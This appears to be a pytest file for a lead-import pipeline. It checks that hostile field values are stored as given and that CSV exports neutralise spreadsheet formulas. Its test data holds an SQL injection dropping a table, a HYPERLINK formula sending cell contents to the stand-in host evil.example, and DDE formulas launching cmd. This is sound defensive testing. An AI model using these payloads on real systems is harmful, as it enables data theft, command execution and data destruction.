"""Hostile text in a source (SQL, spreadsheet formulas, 10,000 characters, emoji, right-to-left
and CJK scripts, control characters, "null" placeholders) is stored as given, crashes nothing,
and reaches a CSV export inert."""

import csv
from datetime import UTC, datetime

import duckdb
import pyarrow.parquet as pq
import pytest
import yaml

from leadpipe.config import CONFIG_ENV, SegmentConfig, SyncConfig, write_config
from leadpipe.settings import WAREHOUSE_ENV
from orchestration.pipeline import run_pipeline
from sandbox.channels import imports
from sandbox.generator import Generator
from sandbox.platforms import serve

HOSTILE = (
    "Robert'); DROP TABLE marts.dim_leads;--",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Société " + "très longue " * 833,  # about 10,000 characters
    "Café 😀 🚀 Ünïcödé",
    "شركة الأمل للتجارة",
    "株式会社テスト",
    "Acme\u0007 \u001b[31m\u0000 Corp",
    "null",
    "N/A",
)
CONSENT = "Contact commercial"


def _hostile_import(folder):
    rows = [
        {
            "Prénom": "Hostile",
            "Nom": f"Tester{i}",
            "E-mail": f"hostile{i}@acme-hostile.fr",
            "Téléphone": "",
            "Société": value,
            "Fonction": value if i % 2 else "CEO",
            "Pays": "France",
            "Date": "2026-11-19 10:00:00",
            CONSENT: "oui",
        }
        for i, value in enumerate(HOSTILE)
    ]
    with (folder / "hostile.csv").open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, [*imports.HEADERS, CONSENT])
        writer.writeheader()
        writer.writerows(rows)
    declaration = {**imports.DECLARATION, "lawful_basis": "consent", "source": "Hostile test"}
    (folder / "hostile.csv.yml").write_text(yaml.safe_dump(declaration))


@pytest.fixture(scope="module")
def flow(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    data = Generator(seed=3, now=datetime(2026, 11, 20, tzinfo=UTC)).generate(40)
    with pytest.MonkeyPatch.context() as env, serve(data, hubspot_requests_per_10s=None) as p:
        for name, value in p.environment().items():
            env.setenv(name, value)
        _hostile_import(p.imports_folder)
        config = p.config()
        config.sources["imports"].columns[CONSENT] = "consent_sales_contact"
        config.segments = {
            "hostile": SegmentConfig(
                filter="email like '%@acme-hostile.fr'", purpose="sales_contact"
            )
        }
        config.syncs = {
            "hostile_export": SyncConfig(segment="hostile", destination="files", mode="mirror")
        }
        env.setenv(CONFIG_ENV, str(write_config(config, folder / "leadpipe.yml")))
        env.setenv(WAREHOUSE_ENV, str(folder / "warehouse.duckdb"))
        run = run_pipeline()
        yield {"run": run, "warehouse": folder / "warehouse.duckdb", "exports": p.exports_folder}


def test_the_run_survives_and_every_value_is_stored_as_given(flow):
    assert flow["run"].ok, flow["run"].failure
    con = duckdb.connect(str(flow["warehouse"]), read_only=True)
    try:
        stored = dict(
            con.execute(
                "select email, company from marts.dim_leads where email like '%@acme-hostile.fr'"
            ).fetchall()
        )
    finally:
        con.close()
    for i, value in enumerate(HOSTILE):
        assert stored[f"hostile{i}@acme-hostile.fr"] == value.strip()


def test_the_csv_export_keeps_them_but_makes_formulas_inert(flow):
    with (flow["exports"] / "hostile_export.csv").open(encoding="utf-8-sig", newline="") as file:
        exported = {row["email"]: row["company"] for row in csv.DictReader(file)}
    assert len(exported) == len(HOSTILE)
    for i, value in enumerate(HOSTILE):
        cell = exported[f"hostile{i}@acme-hostile.fr"]
        assert cell in (value.strip(), "'" + value.strip())
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not cell.startswith("-1")
    parquet = pq.read_table(flow["exports"] / "hostile_export.parquet").to_pylist()
    assert {row["email"]: row["company"] for row in parquet} == exported
